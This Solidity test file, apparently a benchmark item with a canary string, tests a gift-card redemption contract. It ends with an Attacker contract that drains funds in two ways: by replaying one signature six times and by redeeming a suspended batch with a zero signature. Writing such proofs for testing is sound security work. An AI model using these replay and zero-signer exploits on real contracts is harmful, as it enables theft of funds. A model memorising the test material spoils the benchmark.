// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./GiftCardDesk.sol";

// assay-canary-5e6fe69e-0ce1-47b1-b6ab-6f6c2a0c91ac

interface Vm {
    function warp(uint256) external;
    function prank(address) external;
    function expectRevert(bytes4) external;
    function addr(uint256) external pure returns (address);
    function sign(uint256, bytes32) external pure returns (uint8, bytes32, bytes32);
}

contract Token is IERC20 {
    address private maker = msg.sender;
    bool public no;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 n) external {
        require(msg.sender == maker);
        balanceOf[to] += n;
    }

    function refuse(bool x) external {
        require(msg.sender == maker);
        no = x;
    }

    function transfer(address to, uint256 n) external returns (bool) {
        if (no) return false;
        balanceOf[msg.sender] -= n;
        balanceOf[to] += n;
        return true;
    }

    function transferFrom(address from, address to, uint256 n) external returns (bool) {
        if (no) return false;
        require(msg.sender == address(desk));
        balanceOf[from] -= n;
        balanceOf[to] += n;
        return true;
    }

    GiftCardDesk private desk;

    function allow(GiftCardDesk d) external {
        require(msg.sender == maker);
        desk = d;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant KEY = 0xA11CE;
    address private constant ANA = address(0xA9A);

    Token public token;
    GiftCardDesk public desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_790_000_000);
        token = new Token();
        desk = new GiftCardDesk(token);
        token.allow(desk);
        token.mint(address(this), 20_000);
        desk.open(1, vm.addr(KEY), uint64(block.timestamp + 90 days), 6_000);
        desk.open(2, vm.addr(KEY), uint64(block.timestamp + 90 days), 5_000);
        redeem(2, 70, ANA, 1_000);
        desk.suspend(2);
        mallory = new Attacker(desk);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, desk.digest(1, 6, address(mallory), 1_000));
        mallory.keep(v, r, s);
    }

    function redeem(uint256 id, uint256 card, address to, uint128 n) private {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, desk.digest(id, card, to, n));
        desk.redeem(id, card, to, n, v, r, s);
    }

    function left(uint256 id) private view returns (uint128 n) {
        (, , n) = desk.batches(id);
    }

    function test_Regular() public {
        redeem(1, 7, ANA, 250);
        redeem(1, 8, address(0xBE9), 750);
        require(token.balanceOf(ANA) == 1_250 && token.balanceOf(address(0xBE9)) == 750, "paid");
        require(desk.used(1, 7) && left(1) == 5_000, "used");
        desk.resume(2, vm.addr(KEY));
        redeem(2, 71, ANA, 4_000);
        require(left(2) == 0 && token.balanceOf(ANA) == 5_250, "resumed");
        desk.suspend(1);
        vm.warp(block.timestamp + 91 days);
        desk.close(1);
        require(left(1) == 0 && token.balanceOf(address(this)) == 14_000, "closed");
        desk.setOwner(ANA);
        require(desk.owner() == ANA, "owner");
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        vm.expectRevert(NotOwner.selector);
        desk.setOwner(ANA);
        vm.prank(ANA);
        vm.expectRevert(NotOwner.selector);
        desk.open(3, ANA, uint64(block.timestamp + 1 days), 1);
        vm.prank(ANA);
        vm.expectRevert(NotOwner.selector);
        desk.suspend(1);
        vm.prank(ANA);
        vm.expectRevert(NotOwner.selector);
        desk.resume(2, ANA);
        vm.warp(block.timestamp + 91 days);
        vm.prank(ANA);
        vm.expectRevert(NotOwner.selector);
        desk.close(1);
    }

    function test_RefusesMistakes() public {
        vm.expectRevert(Zero.selector);
        new GiftCardDesk(IERC20(address(0)));
        vm.expectRevert(Zero.selector);
        desk.setOwner(address(0));
        vm.expectRevert(Taken.selector);
        desk.open(1, ANA, uint64(block.timestamp + 1 days), 1);
        vm.expectRevert(Zero.selector);
        desk.open(3, address(0), uint64(block.timestamp + 1 days), 1);
        vm.expectRevert(Zero.selector);
        desk.open(3, ANA, uint64(block.timestamp + 1 days), 0);
        vm.expectRevert(Late.selector);
        desk.open(3, ANA, uint64(block.timestamp), 1);
        vm.expectRevert(Zero.selector);
        desk.resume(2, address(0));
        vm.expectRevert(Zero.selector);
        desk.resume(3, ANA);
        vm.expectRevert(Early.selector);
        desk.close(1);
    }

    function test_RefusesCards() public {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, desk.digest(1, 7, ANA, 250));
        vm.expectRevert(BadSig.selector);
        desk.redeem(1, 7, ANA, 251, v, r, s);
        vm.expectRevert(BadSig.selector);
        desk.redeem(2, 7, ANA, 250, v, r, s);
        (v, r, s) = vm.sign(KEY, desk.digest(1, 1, ANA, 250));
        desk.redeem(1, 1, ANA, 250, v, r, s);
        vm.expectRevert(Used.selector);
        desk.redeem(1, 1, ANA, 250, v, r, s);
        (v, r, s) = vm.sign(KEY, desk.digest(1, 8, ANA, 5_751));
        vm.expectRevert(Short.selector);
        desk.redeem(1, 8, ANA, 5_751, v, r, s);
        (v, r, s) = vm.sign(KEY, desk.digest(1, 9, ANA, 1));
        vm.warp(block.timestamp + 91 days);
        vm.expectRevert(Late.selector);
        desk.redeem(1, 9, ANA, 1, v, r, s);
    }

    function test_RefusesPayments() public {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, desk.digest(1, 7, ANA, 250));
        token.refuse(true);
        vm.expectRevert(Pay.selector);
        desk.redeem(1, 7, ANA, 250, v, r, s);
        vm.expectRevert(Pay.selector);
        desk.open(3, ANA, uint64(block.timestamp + 1 days), 1);
        vm.warp(block.timestamp + 91 days);
        vm.expectRevert(Pay.selector);
        desk.close(1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 4_000, "nothing gained");
    }

    function exploit2() public {
        mallory.again();
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(mallory)) >= 6_000, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    GiftCardDesk private desk;
    uint8 private v;
    bytes32 private r;
    bytes32 private s;

    constructor(GiftCardDesk d) {
        desk = d;
    }

    function keep(uint8 v_, bytes32 r_, bytes32 s_) external {
        (v, r, s) = (v_, r_, s_);
    }

    function again() external {
        for (uint256 i; i < 6; ++i) desk.redeem(1, 6, address(this), 1_000, v, r, s);
    }

    function run() external {
        (, , uint128 left) = desk.batches(2);
        desk.redeem(2, 1, address(this), left, 0, 0, 0);
    }
}
